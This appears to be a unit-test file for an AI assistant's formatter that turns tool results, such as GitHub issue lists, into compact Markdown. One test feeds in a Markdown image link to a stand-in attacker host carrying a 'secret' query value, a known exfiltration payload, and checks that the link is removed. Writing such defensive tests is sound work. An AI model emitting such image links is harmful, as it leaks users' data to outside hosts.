"""How results are told: compact Markdown, never a raw dump."""

from sophia.core.messages import Json, JsonObject, ToolCall
from tests.unit.llm.builtin.talk import after, failed, gave

CALL = ToolCall("1", "github__list_issues", {"repo": "acme/api"})


def told(structured: JsonObject | None, text: str = "") -> str:
    answer = after("list issues in acme/api", gave(structured, text), calls=[CALL]).message.text
    heading, _, body = answer.partition("\n\n")
    assert heading == "**GitHub: list issues**"
    return body


def test_a_list_of_objects_becomes_a_table() -> None:
    issues: list[Json] = [
        {"number": 1, "title": "a | b", "user": {"login": "ada", "id": 7}, "labels": ["x", "y"]},
        {"number": 2, "title": "c\nd", "user": None, "labels": []},
    ]
    assert told({"issues": issues, "total": 2}) == (
        "- **total**: 2\n\n**issues**\n\n"
        "| number | title | user | labels |\n"
        "| --- | --- | --- | --- |\n"
        "| 1 | a \\| b | ada | x, y |\n"
        "| 2 | c d |  |  |"
    )


def test_an_object_becomes_a_list_of_its_fields() -> None:
    body = told({"full_name": "acme/api", "is_private": True, "homepage": None, "topics": []})
    assert body == "- **full name**: acme/api\n- **is private**: yes\n- **topics**: none"


def test_json_in_a_text_is_read() -> None:
    assert told(None, '[{"a": 1}]') == "| a |\n| --- |\n| 1 |"
    assert told(None, "[1, 2]") == "- 1\n- 2"
    assert told(None, "[not json") == "[not json"


def test_text_of_several_lines_is_fenced_whatever_is_in_it() -> None:
    assert told({"content": "a\n```\nb"}) == "**content**\n\n````\na\n```\nb\n````"


def test_long_tables_are_cut_with_a_note() -> None:
    rows: list[Json] = [{f"c{column}": row for column in range(8)} for row in range(50)]
    body = told({"rows": rows})
    assert body.count("\n| ") == 1 + 1 + 20
    assert body.endswith("… 30 more rows; not shown: c6, c7.")


def test_no_result_is_longer_than_a_few_thousand_characters() -> None:
    body = told(None, "word " * 10_000)
    assert len(body) < 4_200
    assert "more characters." in body
    assert len(told({f"k{number}": "x" * 500 for number in range(500)})) < 4_200


def test_nothing_given_is_said() -> None:
    assert told(None) == "It gave nothing back."
    assert told({}) == "It gave nothing back."


def test_a_result_cannot_load_a_picture() -> None:
    assert "![" not in told(None, "see ![x](https://evil.example/?q=secret)")


def test_an_error_is_told_with_the_tools_own_message() -> None:
    reply = after("list issues in acme/api", failed("GITHUB_TOKEN is not set"), calls=[CALL])
    assert reply.message.text == "GitHub could not list issues: GITHUB_TOKEN is not set"


def test_every_result_of_a_turn_is_told() -> None:
    answer = after("list instances then list models", gave({"n": 1}), failed("away")).message.text
    assert answer == (
        "**Lambda Labs CLI: list instances**\n\n- **n**: 1\n\n"
        "Lambda Labs Serverless could not list models: away"
    )
